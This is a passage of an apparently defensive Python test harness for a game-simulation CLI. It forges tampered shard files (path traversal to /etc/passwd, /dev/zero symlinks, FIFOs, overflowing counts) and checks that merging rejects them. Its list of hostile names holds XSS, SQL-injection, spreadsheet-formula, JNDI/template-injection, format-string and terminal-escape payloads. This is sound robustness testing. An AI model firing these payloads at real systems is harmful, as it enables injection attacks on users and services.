        """A case: copies of the genuine shards `tag` 1..3, changed by edit(dirs)."""
        case = os.path.join(root, name, "deep", "er")
        os.makedirs(case)
        dirs = []
        for k in shards:
            d = os.path.join(case, f"s{k}")
            shutil.copytree(os.path.join(gen, f"{tag}{k}" if not tag.endswith("-") else f"{tag}{k}"), d)
            dirs.append(d)
        edit(dirs)
        return case, dirs

    def swap_tallies(dirs):
        a, b = os.path.join(dirs[0], "tallies.parquet"), os.path.join(dirs[1], "tallies.parquet")
        t = open(a, "rb").read()
        shutil.copy(b, a)
        open(b, "wb").write(t)
        for d in dirs[:2]:
            m = load_meta(d)
            rehash(d, m, "tallies.parquet", "tallies_sha256")
            save_meta(d, m)

    def swap_tallies_and_labels(dirs):
        swap_tallies(dirs)
        for d, k in zip(dirs[:2], (2, 1)):
            m = load_meta(d)
            m["shard"] = k
            save_meta(d, m)

    def each(f, reseal=True):
        def edit(dirs):
            for d in dirs:
                m = load_meta(d)
                f(m, d)
                save_meta(d, m, reseal)
        return edit

    def set_field(key, value, reseal=True):
        return each(lambda m, d: m.__setitem__(key, value), reseal)

    def edit_catalogue(m, d):
        c = json.load(open(os.path.join(d, "catalogue.json")))
        c["files"][0]["name"] = "../../../../escaped-catalogue.toml"
        c["origin"] = "/etc/passwd"
        json.dump(c, open(os.path.join(d, "catalogue.json"), "w"))
        rehash(d, m, "catalogue.json", "catalogue_sha256")
        m["catalogue_origin"] = "/etc/passwd"

    def edit_scenario(text_edit):
        def f(m, d):
            p = os.path.join(d, "scenario.toml")
            text = text_edit(open(p).read())
            open(p, "w").write(text)
            rehash(d, m, "scenario.toml", "scenario_sha256")
        return each(f)

    def link_endless(file, key):
        def edit(dirs):
            for d in dirs:
                os.remove(os.path.join(d, file))
                os.symlink("/dev/zero", os.path.join(d, file))
        return edit

    def tweak_tally(dirs):
        # The last row's first integer column +1 in shard 2's tallies: needs a Parquet writer,
        # so flip one byte near the end of the data pages and re-hash (a forger's edit).
        p = os.path.join(dirs[1], "tallies.parquet")
        b = bytearray(open(p, "rb").read())
        b[len(b) // 2] ^= 1
        open(p, "wb").write(bytes(b))
        m = load_meta(dirs[1])
        rehash(dirs[1], m, "tallies.parquet", "tallies_sha256")
        save_meta(dirs[1], m)

    def mixed(other):
        def edit(dirs):
            shutil.rmtree(dirs[2])
            shutil.copytree(os.path.join(gen, f"{other}3"), dirs[2])
        return edit

    cases = [
        ("swapped tallies, hashes and seals redone", "sw", swap_tallies),
        ("swapped tallies and swapped labels", "sw", swap_tallies_and_labels),
        ("gauntlet: swapped tallies, resealed", "ga", swap_tallies),
        ("battle: swapped tallies, resealed", "ba", swap_tallies),
        ("every shard claims 2 shards (resealed)", "sw", set_field("shards", 2)),
        ("every shard says shard 1 (resealed)", "sw", set_field("shard", 1)),
        ("shard 0 of 3 (resealed)", "sw", lambda ds: (lambda m: (m.__setitem__("shard", 0), save_meta(ds[0], m)))(
            load_meta(ds[0]))),
        ("trials halved in every shard (resealed)", "sw", set_field("trials", 4500)),
        ("stream size changed (resealed)", "sw", set_field("stream_trials", 1000)),
        ("options added (resealed)", "sw", set_field("options", [["SPLIT_SHOTS", "false"]])),
        ("seed 2 written over seed 1 (resealed)", "sw", set_field("seed", 2)),
        ("cells count edited (resealed)", "sw", set_field("cells", 1)),
        ("engagements edited (resealed)", "sw", set_field("engagements", 1)),
        ("version 9.9.9 in all (resealed)", "sw", set_field("volley_version", "9.9.9")),
        ("version 0.0.1 in one shard only (resealed)", "sw",
         lambda ds: (lambda m: (m.__setitem__("volley_version", "0.0.1"), save_meta(ds[2], m)))(load_meta(ds[2]))),
        ("schema 3 (resealed)", "sw", set_field("schema_version", 3)),
        ("command 'battle' on sweep shards (resealed)", "sw", set_field("command", "battle")),
        ("command '../../x' (resealed)", "sw", set_field("command", "../../x")),
        ("gauntlet args: another build (resealed)", "ga",
         each(lambda m, d: m.__setitem__("args", [a.replace("Paladin Siege", "Gladiator Lancer") for a in m["args"]]))),
        ("gauntlet args: --out /tmp/... and --loadouts /etc (resealed)", "ga",
         each(lambda m, d: m.__setitem__("args", m["args"] + ["--out", "/tmp/volley-campaign-escape",
                                                             "--loadouts", "/etc"]))),
        ("gauntlet args: --version (resealed)", "ga", set_field("args", ["--version"])),
        ("gauntlet args: odds-card (resealed)", "ga", set_field("args", ["odds-card", "Paladin Siege", "--out",
                                                                         "/tmp/volley-campaign-escape.png"])),
        ("battle args: --out ../../../escape (resealed)", "ba",
         each(lambda m, d: m.__setitem__("args", m["args"] + ["--out", "../../../escape"]))),
        ("scenario_file absolute path (resealed)", "sw", set_field("scenario_file", "/etc/passwd")),
        ("scenario_name with NUL and slash (resealed)", "sw", set_field("scenario_name", "../\u0000x")),
        ("catalogue.json with path names and origin (rehashed, resealed)", "sw", each(edit_catalogue)),
        ("scenario.toml renamed to ../../escape (rehashed, resealed)", "sw",
         edit_scenario(lambda t: t.replace('name = "quick"', 'name = "../../escape"'))),
        ("scenario.toml with more trials (rehashed, resealed)", "sw",
         edit_scenario(lambda t: t.replace("trials = 20000", "trials = 99"))),
        ("tallies.parquet -> /dev/zero", "sw", link_endless("tallies.parquet", "tallies_sha256")),
        ("scenario.toml -> /dev/zero", "sw", link_endless("scenario.toml", "scenario_sha256")),
        ("shard.json -> /dev/zero", "sw", link_endless("shard.json", "")),
        ("catalogue.json a FIFO", "sw", lambda ds: (os.remove(os.path.join(ds[1], "catalogue.json")),
                                                    os.mkfifo(os.path.join(ds[1], "catalogue.json")))),
        ("one shard from seed 2", "sw", mixed("seed2-")),
        ("one shard from another option", "sw", mixed("opt-")),
        ("shards of a 2-shard run mixed in", "sw",
         lambda ds: (shutil.rmtree(ds[1]), shutil.copytree(os.path.join(gen, "two2"), ds[1]))),
        ("shard 2 given twice through a symlink", "sw",
         lambda ds: (shutil.rmtree(ds[2]), os.symlink(ds[1], ds[2]))),
        ("shard.json edited without resealing (index)", "sw", set_field("shard", 3, reseal=False)),
        ("tallies byte flipped, rehashed and resealed", "sw", tweak_tally),
        ("shard.json with a duplicate key", "sw",
         lambda ds: open(os.path.join(ds[0], "shard.json"), "a").write("")
         or open(os.path.join(ds[0], "shard.json"), "w").write(
             open(os.path.join(ds[1], "shard.json")).read().replace("{", '{"shard": 9,', 1))),
        ("claimed count 4294967295 (resealed)", "sw", set_field("shards", 4294967295)),
        ("claimed count 2^32 (resealed)", "sw", set_field("shards", 4294967296)),
        ("negative seed (resealed)", "sw", set_field("seed", -1)),
        ("huge trials (resealed)", "sw", set_field("trials", 18446744073709551615)),
    ]
    harmless = []
    for what, tag, edit in cases:
        part.case()
        slug = re.sub(r"\W+", "-", what)[:60]
        case, dirs = forge(slug, tag, edit)
        top = os.path.join(root, slug)
        before = snapshot(top)
        out_dir = os.path.join(case, "out")
        for extra in (["--out", "out"], []):
            args = ["merge"] + [os.path.relpath(d, case) for d in dirs] + ["-q", "--force"] + extra
            code, out, err, timed_out = run(args, case, timeout=120)
            repro = f"(cd {case} && {V} {quote(args)})  # {what}"
            after = snapshot(top)
            new = sorted(set(after) - set(before))
            outside = [n for n in new if not n.startswith(("deep/er/out/", "deep/er/reports/"))]
            if outside or os.path.exists("/tmp/volley-campaign-escape") or os.path.exists(
                    "/tmp/volley-campaign-escape.png"):
                part.fail(f"{what}: wrote outside its report: {outside[:5]}", repro)
            if "out of memory" in err:
                part.fail(f"{what}: read without a bound until memory ran out ({MEMORY >> 30} GiB)", repro)
            elif timed_out or panicked(code, err) or code not in (0, 1, 2):
                part.fail(f"{what}: exit {code}{' (timed out)' if timed_out else ''}: {err.strip()[-300:]}", repro)
            elif code == 0:
                got = merged_state(out_dir if extra else default_dir(case), out)
                diff = sorted(k for k in set(got) | set(genuine[tag]) if got.get(k) != genuine[tag].get(k))
                if diff:
                    part.fail(f"{what}: accepted (exit 0) and the report differs from the genuine merge in {diff[:6]}",
                              repro)
                else:
                    harmless.append(what)
            elif not err.strip():
                part.fail(f"{what}: refused without a message", repro)
            elif new:
                part.fail(f"{what}: refused but wrote {new[:5]}", repro)
            before = snapshot(top)
            if extra:
                print(f"[merge] {what}: exit {code}: {err.strip().splitlines()[-1][:160] if err.strip() else ''}",
                      flush=True)
    print(f"[merge] accepted, the report identical to the genuine merge: {harmless}", flush=True)
    part.done()


def default_dir(case):
    reports = os.path.join(case, "reports")
    names = os.listdir(reports) if os.path.isdir(reports) else []
    return os.path.join(reports, names[0]) if len(names) == 1 else os.path.join(reports, "?")


# ---------------------------------------------------------------- hostile names

HOSTILE = [
    "<svg/onload=alert(1)>", "\"><iframe src=javascript:alert(2)>", "a|b|c", "[x](javascript:alert(3))",
    "**b**_i_`c`", "=IMPORTXML(\"http://x\",\"//a\")", "@SUM(A1)", "-1+1", "]]><!--", "&lt;&amp;&",
    "\u202egnp.exe", "a\u0301\u0302\u0303\u0304\u0305\u0306", "zero\u200bwidth", "\U0001f4a3 bomb",
    "back\\slash", "'; DROP TABLE x;--", "%s%n%x", "{{7*7}}${jndi:x}", "\u540d\u524d", "nb\u00a0sp",
    "line\u2028sep", "L" * 2000, "quote\"d", "cr\u000dlf", "esc\u001b[31mred", "bell\u0007",
]
C0 = re.compile(r"[\x00-\x08\x0b-\x1f\x7f\x80-\x9f]")


def name_targets(ruleset):
    """The scenario's attackers (names to rename everywhere)."""
    t = open(os.path.join(REPO, "scenarios", RULESETS[ruleset]), encoding="utf-8").read()
    m = re.search(r"(?m)^attackers\s*=\s*\[([^\]]*)\]", t)
    return re.findall(r'"([^"]+)"', m.group(1)) if m else []


def check_outputs(part, case, stdout_text, repro, what, seen):
    if C0.search(stdout_text):
        part.fail(f"{what}: a control character reaches the terminal: "
                  f"{C0.search(stdout_text).group(0)!r}", repro)
    for d, _, files in os.walk(case):
        for n in files:
            p = os.path.join(d, n)
            rel = os.path.relpath(p, case)
            if rel.startswith("cat/") or n.endswith(".toml") or rel.split(os.sep)[1:2] == ["catalogue"]:
                continue
            key = (rel, os.stat(p).st_mtime_ns)
            if key in seen:
                continue
            seen.add(key)
            if n.endswith(".svg"):
                try:
                    ET.parse(p)
                except ET.ParseError as e:
                    part.fail(f"{what}: {rel} is not valid XML: {e}", repro)
            elif n.endswith(".csv"):
                for row in csv.reader(open(p, newline="", encoding="utf-8")):
                    for cell in row:
                        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(
                                r"[-+]?(\d+(\.\d*)?|\.\d+)([eE][-+]?\d+)?|[-+]?inf|NaN", cell):
                            part.fail(f"{what}: {rel} has a live formula cell {cell[:40]!r}", repro)
                            break
            elif n == "index.html":
                t = open(p, encoding="utf-8").read()
                for bad in (r"<svg/onload", r"<iframe", r"<!--<"):
                    if re.search(bad, t):
                        part.fail(f"{what}: {rel} carries raw {bad!r}", repro)
            elif n == "index.md":
                t = open(p, encoding="utf-8").read()
                for bad in (r"<svg/onload", r"<iframe", r"(?<!\\)\]\(javascript:"):
                    if re.search(bad, t):
                        part.fail(f"{what}: {rel} carries raw {bad!r}", repro)
                for table in re.findall(r"(?m)((?:^\|.*\|\n)+)", t):
                    rows = table.strip("\n").split("\n")
                    widths = {len(re.findall(r"(?<!\\)\|", r)) for r in rows}
                    if len(widths) > 1:
                        part.fail(f"{what}: {rel} has a table whose rows have different numbers of cells", repro)
                        break
            elif n.endswith(".json"):
                try:
                    json.load(open(p, encoding="utf-8"))
                except ValueError as e:
                    part.fail(f"{what}: {rel} is not JSON: {e}", repro)


def part_names():
    part = Part("names")
    root = os.path.join(WORK, "names")
    shutil.rmtree(root, ignore_errors=True)
    os.makedirs(root)
    for ruleset in RULESETS:
        targets = name_targets(ruleset)
        for i, name in enumerate(HOSTILE):
            case = os.path.join(root, f"{ruleset}-{i}")
            cat = os.path.join(case, "cat")
            shutil.copytree(os.path.join(REPO, "loadouts", ruleset), cat,
                            ignore=shutil.ignore_patterns("*.md"))
            scen = os.path.join(case, "s.toml")
            shutil.copy(os.path.join(REPO, "scenarios", RULESETS[ruleset]), scen)
            # Rename one attacker; the others are the opponents named on the command lines.
            old = targets[1] if len(targets) > 2 else targets[0]
            others = [t for t in targets if t != old] or [old]
            for p in [os.path.join(cat, n) for n in os.listdir(cat)] + [scen]:
                t = open(p, encoding="utf-8").read()
                if p.endswith(".toml"):
                    t = t.replace(f'"{old}"', json.dumps(name, ensure_ascii=False))
                    t = t.replace(f'"{old}+', json.dumps(name, ensure_ascii=False)[:-1] + "+")
                open(p, "w", encoding="utf-8").write(t)
            g = ["--ruleset", ruleset, "--loadouts", "cat"]
            commands = [
                ["--loadouts", "cat", "sweep", "s.toml", "--trials", "40", "--out", "rep", "-q"],
                g + ["validate"],
                g + ["catalog", "--format", "table"], g + ["catalog", "--format", "csv"],
                g + ["catalog", "--format", "json"],
                g + ["odds-card", "--out", "card.svg", "--", name],
                g + ["ttk", f"--attacker={name}", "--target", others[0], "--trials", "50", "--format", "csv"],
                g + ["ttk", f"--attacker={name}", "--target", others[0], "--trials", "50"],
                g + ["duel", "--trials", "50", "--format", "json", "--", name, others[-1]],
                g + ["duel", "--trials", "50", "--", name, others[-1]],
                g + ["odds", f"--attacker={name}", "--target", others[0]],
            ]
            if ruleset == "techcommander":
                commands.append(g + ["gauntlet", "--field", "meta", "--trials", "50", "--range", "20", "--out", "g",
                                     "-q", "--", name, "Paladin Siege"])
                commands.append(g + ["compare", "--against", "meta", "--trials", "50", "--range", "20", "--", name,
                                     "Paladin Siege"])
            refused = None
            seen = set()
            for args in commands:
                part.case()
                code, out, err, timed_out = run(args, case, timeout=120)
                repro = f"(cd {case} && {V} {quote(args)})  # {old!r} renamed {name[:40]!r}"
                what = f"{ruleset} {args[args.index('cat') + 1] if 'cat' in args else args[0]} {name[:30]!r}"
                if timed_out or code not in (0, 1, 2) or panicked(code, err):
                    part.fail(f"{what}: exit {code}: {err.strip()[-300:]}", repro)
                if C0.search(err):
                    part.fail(f"{what}: a control character reaches stderr: {C0.search(err).group(0)!r}", repro)
                if code != 0 and refused is None:
                    refused = err.strip().splitlines()[0][:150] if err.strip() else "(no message)"
                if code == 0 and "json" in args:
                    try:
                        json.loads(out)
                    except ValueError as e:
                        part.fail(f"{what}: stdout is not JSON: {e}", repro)
                check_outputs(part, case, out.decode("utf-8", "replace"), repro, what, seen)
            print(f"[names] {ruleset} {name[:30]!r}: {'refused: ' + refused if refused else 'written'}", flush=True)
    part.done()


for p in PARTS:
    {"mutate": part_mutate, "signals": part_signals, "diskfull": part_diskfull, "merge": part_merge,
     "names": part_names}[p]()
total_fail = sum(s[1] for s in STATS.values())
print("\npart       cases  failures  seconds")
for name, (cases, fails, secs) in STATS.items():
    print(f"{name:<9} {cases:>6} {fails:>9} {secs:>8.0f}")
print(f"seed {SEED}; findings in {os.path.join(WORK, 'findings.txt')}")
sys.exit(1 if total_fail else 0)
PY
